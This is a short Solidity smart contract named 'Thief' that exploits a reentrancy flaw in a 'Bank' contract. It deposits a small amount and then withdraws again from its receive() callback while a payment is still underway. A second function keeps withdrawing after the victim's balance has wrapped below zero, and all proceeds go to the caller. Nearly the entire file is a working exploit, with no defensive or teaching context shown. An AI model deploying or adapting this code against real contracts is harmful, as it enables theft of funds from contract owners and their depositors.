// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface Bank {
    function ethdeposit(address to) external payable;
    function withdraw(uint256 amount) external;
}

/// Pays in a little, withdraws it, and withdraws again during the payment.
contract Thief {
    Bank private immutable bank;
    uint256 private sip;

    constructor(address target) {
        bank = Bank(target);
    }

    receive() external payable {
        if (sip > 0) bank.withdraw(sip);
    }

    /// Deposits the value of the call and withdraws it in sips of this size. Sends the loot to the owner.
    function steal(uint256 amount) external payable {
        bank.ethdeposit{value: msg.value}(address(this));
        sip = amount;
        bank.withdraw(amount);
        sip = 0;
        goHome();
    }

    /// After a theft the balance has wrapped around below zero, so that more can be withdrawn.
    function clearOut(uint256 amount) external {
        while (address(bank).balance >= amount) bank.withdraw(amount);
        goHome();
    }

    function goHome() private {
        (bool isHome, ) = msg.sender.call{value: address(this).balance}("");
        require(isHome);
    }
}
